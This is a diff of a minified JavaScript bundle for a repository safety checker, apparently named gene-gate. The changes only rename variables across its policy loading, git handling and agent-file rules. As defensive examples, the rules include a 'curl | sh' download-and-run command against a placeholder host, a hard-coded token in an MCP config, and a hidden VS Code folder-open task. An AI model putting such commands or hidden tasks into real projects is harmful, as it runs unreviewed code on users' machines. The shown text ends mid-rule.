@@ -21,12 +21,12 @@ let r;async function p(){const g=(0,i().tmpdir)();try{const j=await(0,t().realpa
 mkdtemp)((0,m().join)(j,u))}catch(j){const{code:n}=j;throw new(a()).GateError("file_unreadable",`Cannot create a tempora\
 ry directory in ${g} (${n}).`,"Set TMPDIR to a writable directory with free space.",{cause:j})}}async function b(g){const j=process.
 getuid?.(),n=v(g).filter(f=>(0,_().attempt)(()=>(0,e().lstatSync)(f).uid)===j);if(n.length===0)return;for(const f of c(n))
-await s(f);const k=c(n),w=n.filter(f=>!k.some(A=>E(A,f)));await Promise.allSettled(w.map(f=>(0,t().rm)(f,{recursive:!0,force:!0})))}
+await s(f);const k=c(n),w=n.filter(f=>!k.some(E=>A(E,f)));await Promise.allSettled(w.map(f=>(0,t().rm)(f,{recursive:!0,force:!0})))}
 function v(g){return(0,e().readdirSync)(g).filter(j=>j.startsWith(u)).map(j=>(0,m().join)(g,j)).filter(j=>{const n=(0,e().
 lstatSync)(j,{throwIfNoEntry:!1});return n?.isDirectory()&&n.mtimeMs<Date.now()-h})}function c(g){return((0,_().attempt)(
 ()=>(0,e().readFileSync)("/proc/self/mountinfo","utf8"))??"").split(`
-`).map(k=>(k.split(" ")[4]??"").replaceAll(/\\(\d{3})/g,T)).filter(k=>g.some(w=>E(k,w))).sort((k,w)=>w.length-k.length)}
-function T(g,j){return String.fromCharCode(Number.parseInt(j,8))}function E(g,j){return g===j||g.startsWith(`${j}/`)}async function s(g){
+`).map(k=>(k.split(" ")[4]??"").replaceAll(/\\(\d{3})/g,T)).filter(k=>g.some(w=>A(k,w))).sort((k,w)=>w.length-k.length)}
+function T(g,j){return String.fromCharCode(Number.parseInt(j,8))}function A(g,j){return g===j||g.startsWith(`${j}/`)}async function s(g){
 const j=await(0,l().systemTool)("umount");try{j&&await(0,y().exec)(j,["-l",g],{silent:!0})}catch{}}},94853:function(O,o){
 Object.defineProperty(o,"__esModule",{value:!0}),o.DEFAULT_POLICY_DIGEST=o.DEFAULT_POLICY=void 0;const d=o.DEFAULT_POLICY=
 JSON.parse('{"extends":null,"profile":"evolver","mode":"write","allow_dangerous":false,"allowed_roots":[],"workspace":".\
@@ -43,14 +43,14 @@ s":180,"budget_seconds":18000,"prepare_seconds":900,"slow_command_seconds":60,"o
 _files":{"level":"warn","include":["**"],"exclude":[]},"a2a":{"min_score":0.7,"max_files":5,"max_lines":200,"min_success\
 _streak":2,"confidence_factor":0.6,"require_evidence":"gate","attestation":[]},"ignores":[],"branches":{}}'),e=o.DEFAULT_POLICY_DIGEST=
 "sha256:fb99f0ca13870360b757e30cc8710c88e037312e1a5294eef0caac77a974667a"},74238:function(O,o,d){Object.defineProperty(o,
-"__esModule",{value:!0}),o.POLICY_PATH=void 0,o.digestPolicy=E,o.loadPolicy=h,o.loadPolicyFile=c,o.readPolicyIn=r;function e(){
+"__esModule",{value:!0}),o.POLICY_PATH=void 0,o.digestPolicy=A,o.loadPolicy=h,o.loadPolicyFile=c,o.readPolicyIn=r;function e(){
 const s=d(77598);return e=function(){return s},s}function t(){const s=d(23404);return t=function(){return s},s}function i(){
 const s=d(41895);return i=function(){return s},s}function m(){const s=d(93028);return m=function(){return s},s}function y(){
 const s=d(94853);return y=function(){return s},s}function _(){const s=d(49875);return _=function(){return s},s}function a(){
 const s=d(14479);return a=function(){return s},s}function l(){const s=d(24666);return l=function(){return s},s}const u=o.
 POLICY_PATH=".github/gene-gate.yml";async function h(s,g,{path:j=u,hint:n,readShared:k}={}){const w=await r(s),f="missin\
-g"in w?w.file.read(await(0,l().obtainShared)(w.missing,k)):w,A=(0,a().policyOf)(f,j,n);if(!s.stat(u)){const $=(0,_().findNearPolicy)(
-s);if($)throw v($,s.label);return T(A,{source:"default",ref:g})}const C=(await s.read(u)).toString("utf8");return T(A,{source:"\
+g"in w?w.file.read(await(0,l().obtainShared)(w.missing,k)):w,E=(0,a().policyOf)(f,j,n);if(!s.stat(u)){const $=(0,_().findNearPolicy)(
+s);if($)throw v($,s.label);return T(E,{source:"default",ref:g})}const C=(await s.read(u)).toString("utf8");return T(E,{source:"\
 base",path:u,ref:g,text:C,...b(f)})}async function r(s,g){const j=s.stat(u);return j?(0,m().isRegular)(j.kind)?await p((await s.
 read(u)).toString("utf8"),s,g):{mistakes:[{line:1,column:1,message:`expected a regular file; this is a ${j.kind}`}]}:{policy:y().
 DEFAULT_POLICY}}async function p(s,g,j){const n=(0,a().openPolicy)(s),k=n.extended;if(k===void 0)return n.read();const f=j?.
@@ -59,7 +59,7 @@ return"policy"in s&&s.shared?{shared:s.shared}:{}}function v({path:s,fault:g},j)
 id",`${JSON.stringify(s)} ${g}, but the policy must be the regular file ${u}, which ${j} does not have`,`Rename it to ${u}\
 ; if it is not a policy, give it another name.`)}async function c(s,g,j){const n=await p(s,j);if("missing"in n)throw(0,l().
 unavailable)(n.missing.source,n.missing.why);return T((0,a().policyOf)(n,g),{source:"file",path:g,text:s,...b(n)})}function T(s,g){
-return{policy:s,...g,digest:E(s),ignoredInputs:[]}}function E(s){if(s===y().DEFAULT_POLICY)return y().DEFAULT_POLICY_DIGEST;
+return{policy:s,...g,digest:A(s),ignoredInputs:[]}}function A(s){if(s===y().DEFAULT_POLICY)return y().DEFAULT_POLICY_DIGEST;
 const{branches:g,...j}=s;return`sha256:${(0,e().createHash)("sha256").update((0,t().canonicalize)(j)).digest("hex")}`}},
 49875:function(O,o,d){Object.defineProperty(o,"__esModule",{value:!0}),o.findNearPolicy=i,o.skeletonOf=l;function e(){const u=d(
 28940);return e=function(){return u},u}function t(){const u=d(11970);return t=function(){return u},u}function i(u){for(const h of u.
@@ -77,71 +77,71 @@ r,o.policyOf=h;function e(){const w=d(7723);return e=function(){return w},w}func
 return w},w}function i(){const w=d(3051);return i=function(){return w},w}function m(){const w=d(11160);return m=function(){
 return w},w}function y(){const w=d(5468);return y=function(){return w},w}function _(){const w=d(52491);return _=function(){
 return w},w}function a(){const w=d(24666);return a=function(){return w},w}const l=50,u="Fix the file. `gene-gate schema \
-policy` prints every key with its meaning.";function h(w,f,A=u){if("policy"in w)return w.policy;const{mistakes:C}=w,$=C.
+policy` prints every key with its meaning.";function h(w,f,E=u){if("policy"in w)return w.policy;const{mistakes:C}=w,$=C.
 length===1?"a mistake":`${C.length} mistakes`,S=C.map(({line:x,column:R,message:N})=>`${f}:${x}:${R}: ${N}`);throw new(t()).
 GateError("policy_invalid",`The policy has ${$}:
 ${S.join(`
-`)}`,A)}function r(w){const f=(0,y().readDocument)(w);return"broken"in f?{extended:void 0,read:()=>v(f.broken)}:{extended:p(
-f),read:A=>b(f,A)}}function p(w){if(!w.has(["extends"]))return;const f=e().object({extends:_().extendsKey.schema}).safeParse(
-w.value);return f.success?f.data.extends??void 0:void 0}function b(w,f){const A=f&&(0,y().readDocument)(f.text),C=({line:I,
-column:P,message:G})=>{const L=f?(0,a().sharedName)(f.source):"";return w.atValue(["extends"],`${L}:${I}:${P}: ${G}`)};if(A&&
-"broken"in A)return v(A.broken.map(C));if(A?.has(["extends"])){const I=A.atValue(["extends"],"a shared policy must not e\
-xtend another");return v([C(I)])}const $=A?(0,a().extend)(A.value,w.value):w.value,S=m().policySchema.safeParse($,{jitless:!0}),
-R=(S.success?[]:S.error.issues.flatMap(T)).flatMap(I=>E(I).map(P=>A&&c(A,P)>c(w,P)?C(s(I,P,A)):s(I,P,w))),N=[...w.mistakes,
-...(A?.mistakes??[]).map(C)];return S.success&&N.length===0?{policy:S.data,...f&&{shared:f}}:v([...N,...R])}function v(w){
-return{mistakes:w.toSorted((A,C)=>A.line-C.line||A.column-C.column).slice(0,l)}}function c({has:w},f){return f.findLastIndex(
-(A,C)=>w(f.slice(0,C+1)))+1}function T(w){if(w.code!=="invalid_union")return[w];const f=w.errors.map($=>$.flatMap(T)),A=({
-path:$,code:S})=>$.length===0&&["invalid_type","invalid_value"].includes(S);return(f.find($=>!$.every(A))??f[0]??[]).map(
-$=>({...$,path:[...w.path,...$.path]}))}function E(w){return w.code!=="unrecognized_keys"?[w.path]:w.keys.slice(0,l).map(
-f=>[...w.path,f])}function s(w,f,A){if(w.code==="unrecognized_keys"){const S=String(f.at(-1));return A.atKey(w.path,S,n(
-w.path,S))}const C=A.textAt(f),$=w.code==="invalid_value"&&C!==void 0?g(C,w.values.map(String)):"";return A.atValue(f,`${j(
-f)}: ${w.message}${$}`)}function g(w,f){const A=(0,i().nearestName)(w,f);return A===void 0?"":`; did you mean ${A}?`}function j(w){
-return w.length===0?"the policy":w.map(String).join(".")}function n(w,f){const A=k(m().policySchema,w),C=j([...w,f]),$=A.
+`)}`,E)}function r(w){const f=(0,y().readDocument)(w);return"broken"in f?{extended:void 0,read:()=>v(f.broken)}:{extended:p(
+f),read:E=>b(f,E)}}function p(w){if(!w.has(["extends"]))return;const f=e().object({extends:_().extendsKey.schema}).safeParse(
+w.value);return f.success?f.data.extends??void 0:void 0}function b(w,f){const E=f&&(0,y().readDocument)(f.text),C=({line:I,
+column:P,message:G})=>{const L=f?(0,a().sharedName)(f.source):"";return w.atValue(["extends"],`${L}:${I}:${P}: ${G}`)};if(E&&
+"broken"in E)return v(E.broken.map(C));if(E?.has(["extends"])){const I=E.atValue(["extends"],"a shared policy must not e\
+xtend another");return v([C(I)])}const $=E?(0,a().extend)(E.value,w.value):w.value,S=m().policySchema.safeParse($,{jitless:!0}),
+R=(S.success?[]:S.error.issues.flatMap(T)).flatMap(I=>A(I).map(P=>E&&c(E,P)>c(w,P)?C(s(I,P,E)):s(I,P,w))),N=[...w.mistakes,
+...(E?.mistakes??[]).map(C)];return S.success&&N.length===0?{policy:S.data,...f&&{shared:f}}:v([...N,...R])}function v(w){
+return{mistakes:w.toSorted((E,C)=>E.line-C.line||E.column-C.column).slice(0,l)}}function c({has:w},f){return f.findLastIndex(
+(E,C)=>w(f.slice(0,C+1)))+1}function T(w){if(w.code!=="invalid_union")return[w];const f=w.errors.map($=>$.flatMap(T)),E=({
+path:$,code:S})=>$.length===0&&["invalid_type","invalid_value"].includes(S);return(f.find($=>!$.every(E))??f[0]??[]).map(
+$=>({...$,path:[...w.path,...$.path]}))}function A(w){return w.code!=="unrecognized_keys"?[w.path]:w.keys.slice(0,l).map(
+f=>[...w.path,f])}function s(w,f,E){if(w.code==="unrecognized_keys"){const S=String(f.at(-1));return E.atKey(w.path,S,n(
+w.path,S))}const C=E.textAt(f),$=w.code==="invalid_value"&&C!==void 0?g(C,w.values.map(String)):"";return E.atValue(f,`${j(
+f)}: ${w.message}${$}`)}function g(w,f){const E=(0,i().nearestName)(w,f);return E===void 0?"":`; did you mean ${E}?`}function j(w){
+return w.length===0?"the policy":w.map(String).join(".")}function n(w,f){const E=k(m().policySchema,w),C=j([...w,f]),$=E.
 filter(S=>k(m().policySchema,[...w,S]).includes(f));if($.length>0){const S=$.map(x=>j([...w,x,f]));return`unknown key ${C}\
-; did you mean ${S.join(" or ")}?`}return A.length===0?`unknown key ${C}`:`unknown key ${C}${g(f,A)} (known: ${A.join(",\
- ")})`}function k(w,f){const{innerType:A,options:C,shape:$,element:S,valueType:x}=w._zod.def;if(A)return k(A,f);if(C)return C.
+; did you mean ${S.join(" or ")}?`}return E.length===0?`unknown key ${C}`:`unknown key ${C}${g(f,E)} (known: ${E.join(",\
+ ")})`}function k(w,f){const{innerType:E,options:C,shape:$,element:S,valueType:x}=w._zod.def;if(E)return k(E,f);if(C)return C.
 map(P=>k(P,f)).find(({length:P})=>P)??[];const[R,...N]=f;if(R===void 0)return Object.keys($??{});const I=$?.[String(R)]??
 S??x;return I?k(I,N):[]}},5468:function(O,o,d){Object.defineProperty(o,"__esModule",{value:!0}),o.placeIn=r,o.readDocument=
 y;function e(){const p=d(69873);return e=function(){return p},p}function t(){const p=d(3463);return t=function(){return p},
 p}function i(){const p=d(4537);return i=function(){return p},p}const m=64*1024;function y(p){const b=_(p);if(b)return{broken:[
 {line:1,column:1,message:b}]};const v=new(e()).LineCounter,c=(0,e().parseDocument)(p,{lineCounter:v,prettyErrors:!1}),T=(s,g)=>{
-const{line:j,col:n}=v.linePos(s);return{line:j,column:n,message:g}},E=[...c.errors.map(({pos:s,message:g})=>T(s[0],g)),...l(
-c).map(s=>T(s,"aliases (*name) are not supported"))];return E.length!==c.errors.filter(a).length?{broken:E}:{value:c.toJS()??
-{},mistakes:E,has:s=>(0,e().isNode)(c.contents)&&c.hasIn(s),textAt:s=>{const g=(0,e().isNode)(c.contents)?c.getIn(s):void 0;
+const{line:j,col:n}=v.linePos(s);return{line:j,column:n,message:g}},A=[...c.errors.map(({pos:s,message:g})=>T(s[0],g)),...l(
+c).map(s=>T(s,"aliases (*name) are not supported"))];return A.length!==c.errors.filter(a).length?{broken:A}:{value:c.toJS()??
+{},mistakes:A,has:s=>(0,e().isNode)(c.contents)&&c.hasIn(s),textAt:s=>{const g=(0,e().isNode)(c.contents)?c.getIn(s):void 0;
 return typeof g=="string"?g:void 0},atValue:(s,g)=>T(u(c,s),g),atKey:(s,g,j)=>T(h(c,s,g),j)}}function _(p){return p.length>
 m?`the file is larger than ${m} characters`:(0,t().isNestedTooDeep)(p)?"the file is nested too deep":(0,i().lfsObstacle)(
 p)}function a({code:p}){return p==="DUPLICATE_KEY"}function l(p){const b=[];return(0,e().visit)(p,{Alias:(v,{range:c})=>{
 b.push(c?.[0]??0)}}),b}function u(p,b){for(let v=b.length;v>0;v--){const c=p.getIn(b.slice(0,v),!0);if((0,e().isNode)(c)&&
 c.range)return c.range[0]}return 0}function h(p,b,v){const c=b.length===0?p.contents:p.getIn(b,!0),T=(0,e().isMap)(c)?c.
-items.find(E=>(0,e().isScalar)(E.key)&&String(E.key.value)===v):void 0;return(0,e().isScalar)(T?.key)&&T.key.range?.[0]||
-0}function r(p,b,v){const c=new(e()).LineCounter,T=(0,e().parseDocument)(p,{lineCounter:c,prettyErrors:!1}),E=T.contents===
-null?void 0:T.getIn(b,!0);if(!(0,e().isScalar)(E)||E.value!==v||!E.range)return;const{line:s,col:g}=c.linePos(E.range[0]);
+items.find(A=>(0,e().isScalar)(A.key)&&String(A.key.value)===v):void 0;return(0,e().isScalar)(T?.key)&&T.key.range?.[0]||
+0}function r(p,b,v){const c=new(e()).LineCounter,T=(0,e().parseDocument)(p,{lineCounter:c,prettyErrors:!1}),A=T.contents===
+null?void 0:T.getIn(b,!0);if(!(0,e().isScalar)(A)||A.value!==v||!A.range)return;const{line:s,col:g}=c.linePos(A.range[0]);
 return`${s}:${g}`}},24666:function(O,o,d){Object.defineProperty(o,"__esModule",{value:!0}),o.COPIES=void 0,o.copyPath=_,
 o.extend=l,o.obtainShared=h,o.sharedCopy=u,o.sharedName=a,o.unavailable=b;function e(){const v=d(77598);return e=function(){
 return v},v}function t(){const v=d(41895);return t=function(){return v},v}function i(){const v=d(3463);return i=function(){
 return v},v}function m(){const v=d(93028);return m=function(){return v},v}const y=o.COPIES=".github/gene-gate/";function _({
 repository:v,path:c}){return`${y}${v}/${c}`}function a({repository:v,path:c,commit:T}){return`${v}/${c}@${T.slice(0,12)}`}
-function l(v,c){if(!(0,i().isMapping)(v)||!(0,i().isMapping)(c))return c;const T=Object.entries(c).map(([E,s])=>{const g=Object.
-hasOwn(v,E)?v[E]:void 0,j=(0,i().isMapping)(g)&&(0,i().isMapping)(s);return[E,j?{...g,...s}:s]});return Object.fromEntries(
-[...Object.entries(v),...T])}async function u(v,c){const T=_(c),E=v.stat(T)?.kind;return(0,m().isRegular)(E)?r(await v.read(
+function l(v,c){if(!(0,i().isMapping)(v)||!(0,i().isMapping)(c))return c;const T=Object.entries(c).map(([A,s])=>{const g=Object.
+hasOwn(v,A)?v[A]:void 0,j=(0,i().isMapping)(g)&&(0,i().isMapping)(s);return[A,j?{...g,...s}:s]});return Object.fromEntries(
+[...Object.entries(v),...T])}async function u(v,c){const T=_(c),A=v.stat(T)?.kind;return(0,m().isRegular)(A)?r(await v.read(
 T),c,`the copy at ${T}`):{source:c,why:`the repository has no copy at ${T}`}}async function h({source:v,why:c},T){if(T===
-void 0)throw b(v,c);const E=r(await T(v),v,"the file");if("why"in E)throw b(v,E.why);return{...E,fetched:!0}}function r(v,c,T){
-const E=p(v);return E===c.sha256?{source:c,text:v.toString("utf8")}:{source:c,why:`${T} has the SHA-256 ${E}, not ${c.sha256}`}}
+void 0)throw b(v,c);const A=r(await T(v),v,"the file");if("why"in A)throw b(v,A.why);return{...A,fetched:!0}}function r(v,c,T){
+const A=p(v);return A===c.sha256?{source:c,text:v.toString("utf8")}:{source:c,why:`${T} has the SHA-256 ${A}, not ${c.sha256}`}}
 function p(v){return(0,e().createHash)("sha256").update(v).digest("hex")}function b(v,c,T){return new(t()).GateError("po\
 licy_unavailable",`The policy extends ${a(v)}, which cannot be read: ${c}`,`Correct \`extends\`, or commit the file as ${_(
 v)} to the branch of this policy.`,T)}},7650:function(O,o,d){Object.defineProperty(o,"__esModule",{value:!0}),o.NO_OUTSIDE_CONFIGURATION=
-o.FULL_CLONE_HINT=void 0,o.bindGit=_,o.notStarted=l,o.runGit=a,o.userEnvironment=E;function e(){const s=d(48161);return e=
+o.FULL_CLONE_HINT=void 0,o.bindGit=_,o.notStarted=l,o.runGit=a,o.userEnvironment=A;function e(){const s=d(48161);return e=
 function(){return s},s}function t(){const s=d(85);return t=function(){return s},s}function i(){const s=d(41895);return i=
 function(){return s},s}const m=10*6e4,y={allowUnsafeAskPass:!0,allowUnsafeConfigEnvCount:!0,allowUnsafeConfigPaths:!0,allowUnsafeCredentialHelper:!0,
 allowUnsafeFsMonitor:!0,allowUnsafeGitProxy:!0,allowUnsafeHooksPath:!0,allowUnsafeInclude:!0,allowUnsafeProtocolOverride:!0,
 allowUnsafeSshCommand:!0,allowUnsafeUrlRewrite:!0};function _(s){return async(g,j={})=>{const n=await a(s,g,j);if(n.exitCode!==
 0&&!j.accept?.includes(n.exitCode))throw p(g,n);return n.stdout}}async function a({directory:s,env:g,config:j=[]},n,{input:k,
-env:w}={}){const f={...g,...w};let A;const C=(0,t().simpleGit)({baseDir:s,config:[...j],unsafe:y,allowEnvironment:Object.
-keys(f),completion:{onClose:!0,onExit:!1},timeout:{block:m},...k===void 0?{}:{input:()=>Buffer.from(k)},errors:(S,x)=>(A=
+env:w}={}){const f={...g,...w};let E;const C=(0,t().simpleGit)({baseDir:s,config:[...j],unsafe:y,allowEnvironment:Object.
+keys(f),completion:{onClose:!0,onExit:!1},timeout:{block:m},...k===void 0?{}:{input:()=>Buffer.from(k)},errors:(S,x)=>(E=
 x,S instanceof t().GitPluginError?S:void 0)}).env(f);try{await(n[0]==="cat-file"?C.binaryCatFile(n.slice(1)):C.raw([...n]))}catch(S){
-throw h(`git ${n[0]} was stopped: ${String(S)}`,S)}if(A===void 0)throw h(`git ${n[0]} returned no result`);if(A.exitCode===
-null)throw h(`git ${n[0]} was stopped by a signal`);const $=Buffer.concat(A.stdErr).toString();if(A.exitCode<0&&$.includes(
-"ENOENT"))throw u();return{exitCode:A.exitCode,stdout:Buffer.concat(A.stdOut),stderr:$}}function l(s,g){return g.code!==
+throw h(`git ${n[0]} was stopped: ${String(S)}`,S)}if(E===void 0)throw h(`git ${n[0]} returned no result`);if(E.exitCode===
+null)throw h(`git ${n[0]} was stopped by a signal`);const $=Buffer.concat(E.stdErr).toString();if(E.exitCode<0&&$.includes(
+"ENOENT"))throw u();return{exitCode:E.exitCode,stdout:Buffer.concat(E.stdOut),stderr:$}}function l(s,g){return g.code!==
 "ENOENT"?h(`git ${s[0]} could not be started: ${g.message}`,g):u(g)}function u(s){return new(i()).GateError("program_not\
 _found","git is not installed or not on PATH","Install git and put it on PATH.",{cause:s})}function h(s,g){return new(i()).
 GateError("git_failed",s,r,{cause:g})}const r=o.FULL_CLONE_HINT="Check the clone with git fsck; it must be a full clone \
@@ -149,7 +149,7 @@ GateError("git_failed",s,r,{cause:g})}const r=o.FULL_CLONE_HINT="Check the clone
 ***@");return new(i()).GateError("git_failed",`git ${s[0]} failed: ${n||`exit code ${g}`}`,b.test(n)?`Free space in TMPD\
 IR (${(0,e().tmpdir)()}) and in the clone.`:r)}const b=/No space left on device|Disk quota exceeded|Read-only file system/i,
 v=o.NO_OUTSIDE_CONFIGURATION={GIT_CONFIG_NOSYSTEM:"1",GIT_CONFIG_GLOBAL:e().devNull,GIT_ATTR_NOSYSTEM:"1"},c=/^(GIT_(ALLOW_PROTOCOL|ASKPASS|CONFIG|HTTP|PROXY|SSH|SSL)|SSH_ASKPASS)/i,
-T=/^(GIT_.*|EDITOR|PAGER|PREFIX|VISUAL)$/i;function E(s){const g={};for(const[j,n]of Object.entries(s))n!==void 0&&(c.test(
+T=/^(GIT_.*|EDITOR|PAGER|PREFIX|VISUAL)$/i;function A(s){const g={};for(const[j,n]of Object.entries(s))n!==void 0&&(c.test(
 j)||!T.test(j))&&(g[j]=n);return{...g,GIT_TERMINAL_PROMPT:"0",GIT_OPTIONAL_LOCKS:"0",GIT_NO_REPLACE_OBJECTS:"1"}}},96402:function(O,o,d){
 Object.defineProperty(o,"__esModule",{value:!0}),o.openRepository=u;function e(){const b=d(73024);return e=function(){return b},
 b}function t(){const b=d(51455);return t=function(){return b},b}function i(){const b=d(76760);return i=function(){return b},
@@ -158,12 +158,12 @@ b}function _(){const b=d(7650);return _=function(){return b},b}function a(){cons
 b}const l=["--is-bare-repository","--is-inside-work-tree","--show-object-format","--show-toplevel","--absolute-git-dir",
 ...["objects","shallow","index"].flatMap(b=>["--git-path",b])];async function u(b,v=process.env){const c=(0,i().resolve)(
 b);if(!(0,m().attempt)(()=>(0,e().statSync)(c).isDirectory()))throw p(c,"is not a directory");const T=(0,_().userEnvironment)(
-v),E=await(0,_().runGit)({directory:c,env:r(T,v),config:["safe.directory=*"]},["rev-parse","--path-format=absolute",...l]),
-[s,g,j,n,k,w,f,A,...C]=E.stdout.toString().split(`
+v),A=await(0,_().runGit)({directory:c,env:r(T,v),config:["safe.directory=*"]},["rev-parse","--path-format=absolute",...l]),
+[s,g,j,n,k,w,f,E,...C]=A.stdout.toString().split(`
 `);if(s==="true")throw p(c,"is a bare repository, which has no working tree");if(g==="false")throw p(c,"is inside a .git\
- directory");if(!E.stdout.length)throw p(c,"is not in a git repository",E.stderr);if(!j||!n||!k||!w||!f||!A||C.join("")!==
-"")throw p(c,"is in a repository that git cannot describe",E.stderr);const $=await(0,a().openObjectView)({objects:w,shallow:f,
-format:j,env:T});return{...h(await(0,t().realpath)(n),k,T,$),index:A}}function h(b,v,c,T){return{...T,directory:b,user:(0,_().
+ directory");if(!A.stdout.length)throw p(c,"is not in a git repository",A.stderr);if(!j||!n||!k||!w||!f||!E||C.join("")!==
+"")throw p(c,"is in a repository that git cannot describe",A.stderr);const $=await(0,a().openObjectView)({objects:w,shallow:f,
+format:j,env:T});return{...h(await(0,t().realpath)(n),k,T,$),index:E}}function h(b,v,c,T){return{...T,directory:b,user:(0,_().
 bindGit)({directory:b,env:{...c,GIT_DIR:v,GIT_WORK_TREE:b},config:[`safe.directory=${b}`,"core.fsmonitor=false","core.ho\
 oksPath=/dev/null","core.splitIndex=false","core.sparseCheckout=false"]})}}function r(b,{GIT_INDEX_FILE:v}){return v===void 0?
 b:{...b,GIT_INDEX_FILE:v}}function p(b,v,c=""){const T=c.includes("not a git repository")?"":c.trim();return new(y()).GateError(
@@ -181,12 +181,12 @@ return l},l}function i(){const l=d(7650);return i=function(){return l},l}functio
 b=c=>{r??=c;for(const{reject:T}of p.splice(0))T(r)},v=()=>(h=(0,e().spawn)("git",["cat-file","--batch"],{cwd:l,env:u,windowsHide:!0}),
 h.on("error",c=>b((0,i().notStarted)(["cat-file"],c))),h.on("close",()=>b(y())),h.stdin.on("error",()=>{}),h.stderr.resume(),
 h.stdout.on("data",a(c=>p.shift()?.resolve(c))),h);return{read:async c=>{if(c.length===0)return[];if(r)throw r;const{stdin:T}=h??
-v(),E=c.map(()=>new Promise((s,g)=>p.push({resolve:s,reject:g})));return T.write(c.map(s=>`${s}
-`).join("")),Promise.all(E)},close:()=>{b(y()),h?.kill()}}}function y(){return new(t()).GateError("git_failed","git cat-\
+v(),A=c.map(()=>new Promise((s,g)=>p.push({resolve:s,reject:g})));return T.write(c.map(s=>`${s}
+`).join("")),Promise.all(A)},close:()=>{b(y()),h?.kill()}}}function y(){return new(t()).GateError("git_failed","git cat-\
 file ended early",i().FULL_CLONE_HINT)}const _=10;function a(l){let u=Buffer.alloc(0),h,r=[],p=0;return b=>{if(h&&b.length<
 p){r.push(b),p-=b.length;return}u=r.length>0?Buffer.concat([...r,b]):Buffer.concat([u,b]),r=[];let v=0;for(;;)if(h===void 0){
-const c=u.indexOf(_,v);if(c<0)break;const[T="",E="",s=""]=u.toString("latin1",v,c).split(" ");v=c+1,/^\d+$/.test(s)?h={oid:T,
-type:E,size:Number(s)}:l(void 0)}else{const c=v+h.size;if(u.length<=c)break;const{oid:T,type:E}=h;h=void 0,l({oid:T,type:E,
+const c=u.indexOf(_,v);if(c<0)break;const[T="",A="",s=""]=u.toString("latin1",v,c).split(" ");v=c+1,/^\d+$/.test(s)?h={oid:T,
+type:A,size:Number(s)}:l(void 0)}else{const c=v+h.size;if(u.length<=c)break;const{oid:T,type:A}=h;h=void 0,l({oid:T,type:A,
 content:u.subarray(v,c)}),v=c+1}u=u.subarray(v),h&&(p=h.size+1-u.length,r=[u])}}},78173:function(O,o,d){Object.defineProperty(
 o,"__esModule",{value:!0}),o.openObjectView=a;function e(){const h=d(51455);return e=function(){return h},h}function t(){
 const h=d(76760);return t=function(){return h},h}function i(){const h=d(41895);return i=function(){return h},h}function m(){
@@ -200,7 +200,7 @@ join)(p,"refs")),await(0,e().writeFile)((0,t().join)(p,"HEAD"),`ref: refs/heads/
 0",GIT_NO_REPLACE_OBJECTS:"1",GIT_SHALLOW_FILE:h.shallow,HOME:p,LC_ALL:"C"}},c=(0,_().objectReader)(v);return{temporary:r,
 objects:(0,y().bindGit)(v),read:c.read,privateStore:{GIT_OBJECT_DIRECTORY:b,GIT_ALTERNATE_OBJECT_DIRECTORIES:JSON.stringify(
 h.objects)},shallowCommits:async()=>{const T=await(0,e().readFile)(h.shallow,"utf8").catch(l);return new Set(T.split(`
-`).filter(E=>E!==""))},isPartial:async()=>(await(0,e().readdir)((0,t().join)(h.objects,"pack")).catch(()=>[])).some(E=>E.
+`).filter(A=>A!==""))},isPartial:async()=>(await(0,e().readdir)((0,t().join)(h.objects,"pack")).catch(()=>[])).some(A=>A.
 endsWith(".promisor")),close:()=>(c.close(),(0,e().rm)(r,{recursive:!0,force:!0}))}}function l(h){if(h.code==="ENOENT")return"";
 throw new(i()).GateError("git_failed",`Cannot read the shallow boundary of the clone: ${h.message}`,"Check the permissio\
 ns of the .git directory.",{cause:h})}function u(h){return h==="sha1"?`[core]
@@ -222,30 +222,30 @@ o,"__esModule",{value:!0}),o.agentFileRules=void 0;function e(){const c=d(43767)
 function m(c,T={}){return{head:{[t]:i(c),...T}}}function y(c){return{head:{".vscode/tasks.json":JSON.stringify({version:"\
 2.0.0",tasks:[{label:"watch",type:"shell",command:"node watch.js",runOptions:{runOn:"folderOpen"},presentation:{reveal:c}}]}),
 "watch.js":`work();
-`}}}function _(c){const E={url:"https://search.example/mcp",headers:{Authorization:`Bearer ${c}`}};return{head:{".mcp.js\
-on":JSON.stringify({mcpServers:{search:E}})}}}const a=`agent_files:
-  level: approve   # off, warn, approve or error`,l={advice:!0,actor:"human"};function u({tool:c,event:T,command:E,state:s}){
-const g=/^https?:/.test(E)?"connects to":"runs";return`${s===""?"For":`${s==="new"?"New":"Changed"} in this change: for`}\
- ${T}, ${c} ${g} \`${E}\``}const h="Read what it runs before anyone opens this branch, or remove it.",r={[t]:i("node a.j\
+`}}}function _(c){const A={url:"https://search.example/mcp",headers:{Authorization:`Bearer ${c}`}};return{head:{".mcp.js\
+on":JSON.stringify({mcpServers:{search:A}})}}}const a=`agent_files:
+  level: approve   # off, warn, approve or error`,l={advice:!0,actor:"human"};function u({tool:c,event:T,command:A,state:s}){
+const g=/^https?:/.test(A)?"connects to":"runs";return`${s===""?"For":`${s==="new"?"New":"Changed"} in this change: for`}\
+ ${T}, ${c} ${g} \`${A}\``}const h="Read what it runs before anyone opens this branch, or remove it.",r={[t]:i("node a.j\
 s")},p={base:{"a.js":`work();
 `},head:{...r,"a.js":`work();
 `}},b={base:r,head:{...r,"b.js":""}},v=o.agentFileRules=(0,e().rules)("change","danger",{"agent-runs-download":(0,e().warning)(
 {failsByLevel:!0,...l,harm:"danger",title:"Change makes machines run what they download",why:"A download that a shell or\
  an interpreter runs is code that nobody reviews, and it can differ from machine to machine and from day to day. Agents \
 and editors run it by themselves.",wrong:m("curl -s https://setup.example/x | sh"),right:b,configure:a,message:c=>`${u(c)}\
-, which runs what it downloads.`,remedy:"Commit the script, and run it from there."}),"agent-file-secret":(0,e().warning)(
-{failsByLevel:!0,...l,harm:"danger",title:"Secret in a file of agents or editors",why:"Everybody who can read the reposi\
-tory can use the secret, and it stays in the history of git. The value is not shown.",wrong:_("8f14e45fceea167a5a36dedd4\
-bea2543"),right:{..._("$SEARCH_TOKEN"),also:{"agent-command-changed":"The server is new."}},configure:a,message:"`{path}\
-` contains a secret in plain text ({kind}).",remedy:"Revoke the secret, and use an environment variable instead."}),"age\
-nt-task-hidden":(0,e().warning)({failsByLevel:!0,...l,harm:"danger",title:"Change makes an editor run a hidden task",why:"\
-The editor runs the task when somebody opens the folder, and `reveal: never` keeps its terminal closed. That is rarely u\
-seful except to hide what runs.",wrong:y("never"),right:{...y("silent"),also:{"agent-command-changed":"The task is new."}},
